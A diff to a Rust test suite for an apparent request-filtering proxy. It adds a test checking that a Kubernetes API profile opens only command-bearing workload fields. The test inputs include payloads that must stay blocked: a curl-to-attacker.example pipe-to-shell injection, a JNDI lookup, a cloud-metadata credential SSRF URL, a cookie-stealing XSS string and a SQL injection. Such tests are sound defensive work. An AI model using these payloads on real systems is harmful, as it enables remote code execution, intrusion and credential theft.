@@ -407,8 +407,69 @@ fn apis_corpus_floors_at_paranoia_1() {
     // endpoints (proxy/README.md, `routes[].exclusions`), not rule changes. 2026-12-05: the
     // 8 HTML e-mail bodies it blocked pass, judged as documents (xss-003), and two docs with
     // code (markdown fences, LaTeX): 61 (10.4 %). Later the same day a LogQL query, a
-    // gRPC-gateway call and two Argo CD Applications pass: 57.
-    held_out_floors("apis", 400, 13, 0, 57);
+    // gRPC-gateway call and two Argo CD Applications pass: 57. Later, a Logback `%X{traceId}`
+    // pattern in a ConfigMap is no Ruby `%x{…}` (generic-131): 56; with the Kubernetes API
+    // profile, 29 (`kubernetes_profile_opens_workload_specs_only`).
+    held_out_floors("apis", 400, 13, 0, 56);
+}
+
+/// The Kubernetes API profile (`proxy/profiles/kubernetes-api.yaml`) opens the fields of
+/// Kubernetes objects that carry commands and files by design, for the classes they trip, and
+/// nothing else: the same payloads elsewhere in the object, other classes in those fields, and
+/// ordinary application APIs under look-alike prefixes stay judged.
+#[test]
+fn kubernetes_profile_opens_workload_specs_only() {
+    let cfg = profile("kubernetes-api");
+    let wrongly = benign_blocked("apis", &cfg, false);
+    // 2026-12-05: 56 ordinary requests blocked without the profile (29 of them Kubernetes
+    // objects and admission reviews), 29 with it, of which 2 Kubernetes objects: a kubelet
+    // event quoting a pod URL by IP, an ingress's nginx configuration snippet.
+    let k8s: Vec<&String> = wrongly.iter().filter(|id| id.contains("/k8s/")).collect();
+    assert!(k8s.len() <= 2, "{k8s:?}");
+    assert!(
+        wrongly.len() <= 29,
+        "{} blocked: {wrongly:?}",
+        wrongly.len()
+    );
+    for name in ["apis", "evasions", "devops", "frameworks"] {
+        assert_eq!(
+            attacks_missed(name, &cfg),
+            attacks_missed(name, &EvalConfig::default()),
+            "{name}: the profile lets an attack through"
+        );
+    }
+    let review = |container: serde_json::Value, metadata: serde_json::Value| {
+        serde_json::json!({"kind": "AdmissionReview", "apiVersion": "admission.k8s.io/v1",
+            "request": {"uid": "7d1c", "object": {"kind": "Pod", "metadata": metadata,
+                "spec": {"containers": [container]}}}})
+        .to_string()
+    };
+    let backup = serde_json::json!({"name": "backup", "image": "postgres:16",
+        "command": ["sh", "-c", "pg_dump -Fc shop > /backup/shop-$(date +%F).dump && cat /etc/hostname"],
+        "env": [{"name": "PGPASSFILE", "value": "/var/run/secrets/pgpass"}]});
+    let plain = serde_json::json!({"name": "backup"});
+    let opened = json_post("/validate-v1-pod", &review(backup.clone(), plain.clone()));
+    assert!(blocks(&opened, &EvalConfig::default()));
+    assert!(!blocks(&opened, &cfg));
+    // What stays judged: the same command in a name, Java lookups and SSRF in the opened
+    // fields, XSS in an annotation, and an application API under `/api/v1/`.
+    let name = serde_json::json!({"name": "x;curl http://attacker.example/s|sh"});
+    let jndi = serde_json::json!({"name": "app", "image": "app:1",
+        "env": [{"name": "LOG", "value": "${jndi:ldap://attacker.example/a}"}]});
+    let imds = serde_json::json!({"name": "app", "image": "app:1",
+        "args": ["--fetch=http://169.254.169.254/latest/meta-data/iam/security-credentials/"]});
+    let xss = serde_json::json!({"name": "web",
+        "annotations": {"description": "<img src=x onerror=alert(document.cookie)>"}});
+    for body in [
+        review(plain.clone(), name),
+        review(jndi, plain.clone()),
+        review(imds, plain.clone()),
+        review(plain.clone(), xss),
+    ] {
+        assert!(blocks(&json_post("/mutate", &body), &cfg), "{body}");
+    }
+    let app = r#"{"data": {"attributes": {"sort": "1' GROUP BY CONCAT(version(),FLOOR(RAND(0)*2)) HAVING MIN(0)-- -"}}}"#;
+    assert!(blocks(&json_post("/api/v1/items", app), &cfg));
 }
 
 /// The frameworks corpus (`scripts/corpus-frameworks.py`): what applications on Rails,
